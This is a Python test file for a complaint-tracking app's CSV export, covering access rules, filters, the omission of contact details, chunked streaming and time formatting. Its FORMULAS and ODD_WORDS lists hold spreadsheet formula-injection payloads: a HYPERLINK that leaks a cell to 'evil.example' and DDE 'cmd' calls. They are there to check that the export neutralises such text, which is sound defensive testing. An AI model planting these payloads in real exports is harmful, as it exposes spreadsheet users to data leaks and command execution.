"""GET /api/v1/cases/export.csv: what a supervisor or officer takes to a spreadsheet."""

from __future__ import annotations

import csv
import io
import random
from datetime import UTC, datetime, timedelta
from zoneinfo import ZoneInfo

import pytest
import sqlalchemy as sa
from fastapi.testclient import TestClient
from sqlmodel import Session, col, select

from cases.enums import CLOCK_STATUSES, CaseStatus
from cases.export import COLUMNS, city_time, csv_chunks
from cases.labels import staff_status_name
from cases.models import Case
from core.db import get_engine
from core.settings import Settings
from routing.models import Agency, Category, ServiceArea
from staff.models import User
from tests.helpers import RUBBISH, create_staff, file_complaint, login


def rows(response) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(response.text)))


def test_export_streams_stable_columns_without_contacts(
    client: TestClient, settings: Settings
) -> None:
    """The supervisor's export has every case, the fixed columns, and no phone or e-mail."""
    create_staff(settings, "sup", "supervisor")
    sup = login(client, "sup")
    pothole = file_complaint(client, phone="081234567890", notify_via="sms", lat=-6.99, lon=110.42)
    rubbish = file_complaint(client, text=RUBBISH, email="warga@example.com")
    response = client.get("/api/v1/cases/export.csv", headers=sup)
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    assert response.text.splitlines()[0] == ",".join(COLUMNS)
    exported = rows(response)
    assert [r["tracking_code"] for r in exported] == [
        rubbish["tracking_code"],
        pothole["tracking_code"],
    ]
    assert (exported[1]["agency"], exported[1]["latitude"]) == ("DPU", "-6.99")
    assert "081234567890" not in response.text and "6281234567890" not in response.text
    assert "warga@example.com" not in response.text


def test_officer_exports_only_own_agency_with_filters(
    client: TestClient, settings: Settings
) -> None:
    """Officers get their agency's cases; status and agency filters apply; a bad filter is 422."""
    create_staff(settings, "dlh", "officer", "DLH")
    dlh = login(client, "dlh")
    file_complaint(client)
    mine = file_complaint(client, text=RUBBISH)["tracking_code"]
    exported = rows(client.get("/api/v1/cases/export.csv", headers=dlh))
    assert [r["tracking_code"] for r in exported] == [mine]
    resolved = client.get("/api/v1/cases/export.csv", params={"status": "resolved"}, headers=dlh)
    assert rows(resolved) == []
    assert (
        client.get("/api/v1/cases/export.csv", params={"agency": "NOPE"}, headers=dlh).status_code
        == 422
    )
    assert client.get("/api/v1/cases/export.csv").status_code == 401


def test_export_reads_in_chunks_without_losing_or_repeating_cases(
    client: TestClient, settings: Settings
) -> None:
    """Chunk boundaries (two rows to a chunk here) neither drop nor repeat a case."""
    create_staff(settings, "sup", "supervisor")
    codes = [
        file_complaint(client, text=f"Jalan berlubang nomor {i} di Jl. Pemuda")["tracking_code"]
        for i in range(5)
    ]
    with Session(get_engine(settings.database_url)) as session:
        user = session.exec(select(User)).one()
        chunks = list(
            csv_chunks(session, user, timezone="Asia/Jakarta", language="id", rows_per_chunk=2)
        )
    assert len(chunks) == 4  # the header, then 2 + 2 + 1 rows
    exported = list(csv.DictReader(io.StringIO("".join(chunks))))
    assert [r["tracking_code"] for r in exported] == list(reversed(codes))


FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"x") jalan rusak',
    "+cmd|' /C calc'!A0 jalan rusak",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


def test_resident_text_starting_like_a_formula_is_exported_as_text(
    client: TestClient, settings: Settings
) -> None:
    """Text and address cells starting with = + - @ (or a tab or CR) get a leading quote;
    other text and the coordinates are exported as they are."""
    create_staff(settings, "sup", "supervisor")
    sup = login(client, "sup")
    codes = {
        file_complaint(client, text=text, address=text, lat=-6.99, lon=110.42)[
            "tracking_code"
        ]: text
        for text in FORMULAS
    }
    plain = file_complaint(client, address="Jl. Pemuda -3")["tracking_code"]
    # the forms strip spaces around what a resident types, so a tab or CR first can only be
    # in a row stored otherwise (an older version, a database tool)
    tab = file_complaint(client, text=RUBBISH)["tracking_code"]
    with get_engine(settings.database_url).begin() as connection:
        connection.execute(
            sa.text("UPDATE cases SET address = :tab, text = :cr WHERE tracking_code = :code"),
            {"tab": "\t=1+1", "cr": "\r=1+1 " + RUBBISH, "code": tab},
        )
    response = client.get("/api/v1/cases/export.csv", headers=sup)
    assert response.status_code == 200
    exported = {row["tracking_code"]: row for row in rows(response)}
    for code, text in codes.items():
        assert exported[code]["text"] == "'" + text
        assert exported[code]["address"] == "'" + text
        assert (exported[code]["latitude"], exported[code]["longitude"]) == ("-6.99", "110.42")
    assert exported[plain]["text"].startswith("Jalan berlubang")
    assert exported[plain]["address"] == "Jl. Pemuda -3"
    assert exported[tab]["address"] == "'\t=1+1"
    assert exported[tab]["text"] == "'\r=1+1 " + RUBBISH
    every_cell = [cell for row in exported.values() for cell in row.values()]
    assert not [cell for cell in every_cell if cell[:1] in ("=", "+", "@", "\t", "\r")]


# what a large export is checked against: the cases read as objects, one at a time, and each
# cell written as the export has always written it
EXPORT_STATUSES = list(CaseStatus)
CHANNELS = ("web", "sms", "whatsapp", "telegram", "email")
ODD_WORDS = (
    "Jl. Pemuda No. 3, Semarang",
    '=HYPERLINK("http://evil.example")',
    '-3 meter dari "tikungan"',
    "+62 di dinding",
    "@warga, tolong",
    "\t=1+1",
    "\r=1+1",
    "dua\nbaris, dengan koma",
    "emoji 🚧 dan é",
    "",
)


def many_cases(settings: Settings, count: int) -> None:
    """`count` cases of every status, agency and odd text, written as rows: some without an
    agency, a category, a place or times; some overdue, some a duplicate or merged into an
    earlier one; times with and without a fraction of a second."""
    rng = random.Random(25)
    now = datetime.now(UTC)
    engine = get_engine(settings.database_url)
    with Session(engine) as session:
        agencies = [a.id for a in session.exec(select(Agency))]
        categories = {a: [] for a in agencies}
        for category in session.exec(select(Category)):
            categories[category.agency_id].append(category.id)
        areas = [a.id for a in session.exec(select(ServiceArea))]

    def moment(lo_days: float, hi_days: float) -> datetime:
        value = now + timedelta(days=rng.uniform(lo_days, hi_days))
        return value.replace(microsecond=0) if rng.random() < 0.3 else value

    def maybe(value: object, share: float = 0.5) -> object:
        return value if rng.random() < share else None

    rows = []
    for number in range(1, count + 1):
        agency = maybe(rng.choice(agencies), 0.9)
        located = rng.random() < 0.6
        rows.append(
            {
                "id": number,
                "tracking_code": f"{number:04d}-EXPT",
                "status": rng.choice(EXPORT_STATUSES).value,
                "text": rng.choice(ODD_WORDS) + " " + rng.choice(ODD_WORDS),
                "language": rng.choice(("id", "en")),
                "source_channel": rng.choice(CHANNELS),
                "notify": True,
                "anonymous": rng.random() < 0.2,
                "confidential": rng.random() < 0.1,
                "agency_id": agency,
                "category_id": maybe(rng.choice(categories[agency]), 0.8) if agency else None,
                "service_area_id": maybe(rng.choice(areas), 0.5),
                "latitude": rng.uniform(-7.1, -6.9) if located else None,
                "longitude": rng.uniform(110.3, 110.5) if located else None,
                "address": maybe(rng.choice(ODD_WORDS), 0.4),
                # an hour or more from now, so a case is overdue or not whenever it is read
                "due_at": maybe(rng.choice((moment(-30, -0.05), moment(0.05, 30))), 0.9),
                "duplicate_of_id": maybe(rng.randrange(1, number), 0.05) if number > 1 else None,
                "merged_into_id": maybe(rng.randrange(1, number), 0.05) if number > 1 else None,
                "created_at": moment(-900, -1),
                "updated_at": now,
                "assigned_at": maybe(moment(-900, -1), 0.8),
                "in_progress_at": maybe(moment(-900, -1)),
                "resolved_at": maybe(moment(-900, -1)),
                "closed_at": maybe(moment(-900, -1), 0.3),
                "rejected_at": maybe(moment(-900, -1), 0.1),
                "referred_at": maybe(moment(-900, -1), 0.1),
            }
        )
    with engine.begin() as connection:
        connection.execute(sa.insert(Case), rows)


def cell(value: object) -> object:
    if isinstance(value, str) and value[:1] in ("=", "+", "-", "@", "\t", "\r"):
        return "'" + value
    return value


def expected_export(
    settings: Settings, *, language: str, agency: str | None = None, status: str | None = None
) -> str:
    """The export of every case (of `agency`, in `status`) as the cases read as objects say."""
    zone = ZoneInfo(settings.city_timezone)
    en = language == "en"
    with Session(get_engine(settings.database_url)) as session:
        cases = session.exec(select(Case).order_by(col(Case.id).desc())).all()
        agencies = {a.id: a for a in session.exec(select(Agency))}
        categories = {c.id: c for c in session.exec(select(Category))}
        areas = {a.id: a for a in session.exec(select(ServiceArea))}
    codes = {case.id: case.tracking_code for case in cases}
    now = datetime.now(UTC)

    def when(value: datetime | None) -> str:
        return value.astimezone(zone).isoformat() if value else ""

    def named(thing: Agency | Category | ServiceArea | None, english: bool) -> tuple[str, str]:
        if thing is None:
            return "", ""
        return thing.code, thing.name_en if english else thing.name

    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(COLUMNS)
    for case in cases:
        their_agency = agencies.get(case.agency_id)
        if agency is not None and (their_agency is None or their_agency.code != agency):
            continue
        if status is not None and case.status != status:
            continue
        agency_code, agency_name = named(their_agency, en)
        category_code, category_name = named(categories.get(case.category_id), en)
        area_code, area_name = named(areas.get(case.service_area_id), False)
        overdue = case.status in CLOCK_STATUSES and case.due_at is not None and case.due_at < now
        row = [
            case.tracking_code,
            case.status,
            agency_code,
            category_code,
            area_code,
            case.source_channel,
            case.language,
            when(case.created_at),
            when(case.due_at),
            "yes" if overdue else "no",
            when(case.assigned_at),
            when(case.in_progress_at),
            when(case.resolved_at),
            when(case.closed_at),
            when(case.rejected_at),
            "" if case.latitude is None else case.latitude,
            "" if case.longitude is None else case.longitude,
            case.address or "",
            codes.get(case.duplicate_of_id, ""),
            codes.get(case.merged_into_id, ""),
            case.text,
            "yes" if case.anonymous else "no",
            "yes" if case.confidential else "no",
            staff_status_name(case.status, language),
            agency_name,
            category_name,
            area_name,
            when(case.referred_at),
        ]
        writer.writerow([cell(value) for value in row])
    return buffer.getvalue()


def assert_same_rows(exported: str, expected: str) -> None:
    """Row for row (a readable failure), then byte for byte."""
    got = list(csv.reader(io.StringIO(exported)))
    wanted = list(csv.reader(io.StringIO(expected)))
    assert len(got) == len(wanted)
    for number, (row, expected_row) in enumerate(zip(got, wanted, strict=True)):
        assert row == expected_row, f"row {number}"
    assert exported == expected


def test_a_large_export_is_complete_and_the_same_cell_for_cell(
    client: TestClient, settings: Settings
) -> None:
    """Thousands of cases of every kind come out complete, newest first, each cell as the
    cases read one by one say (times, names, codes of duplicates, quoted formulas, line breaks
    inside a text); in English too; an officer's export with a status filter holds exactly
    their agency's cases in that status."""
    many_cases(settings, 3_000)
    create_staff(settings, "sup", "supervisor")
    create_staff(settings, "dpu", "officer", "DPU")
    sup = login(client, "sup")
    exported = client.get("/api/v1/cases/export.csv", headers=sup)
    assert exported.status_code == 200
    assert len(list(csv.reader(io.StringIO(exported.text)))) == 3_001
    assert_same_rows(exported.text, expected_export(settings, language="id"))
    english = client.get("/api/v1/cases/export.csv", params={"lang": "en"}, headers=sup)
    assert_same_rows(english.text, expected_export(settings, language="en"))
    officer = client.get(
        "/api/v1/cases/export.csv", params={"status": "assigned"}, headers=login(client, "dpu")
    )
    expected = expected_export(settings, language="id", agency="DPU", status="assigned")
    assert len(list(csv.reader(io.StringIO(expected)))) > 5
    assert_same_rows(officer.text, expected)


@pytest.mark.parametrize(
    "zone",
    ["Asia/Jakarta", "Europe/Berlin", "America/Sao_Paulo", "Asia/Kathmandu", "Australia/Lord_Howe"],
)
def test_city_time_writes_what_astimezone_writes(zone: str) -> None:
    """The export's fast times are the slow way's, character for character: around summer
    time changes (Berlin, São Paulo's old ones, Lord Howe's half hour), at odd offsets
    (Kathmandu's +05:45), in the local mean times of a century ago, with and without a
    fraction of a second; nothing for no time."""
    city = ZoneInfo(zone)
    written = city_time(city)
    recent = [datetime(2017, 1, 1) + timedelta(minutes=17 * i) for i in range(95_000)]
    old = [datetime(1890, 1, 1) + timedelta(days=7 * i, microseconds=i) for i in range(5_500)]
    for value in recent + old:
        assert written(value) == value.replace(tzinfo=UTC).astimezone(city).isoformat(), value
    assert written(None) == ""
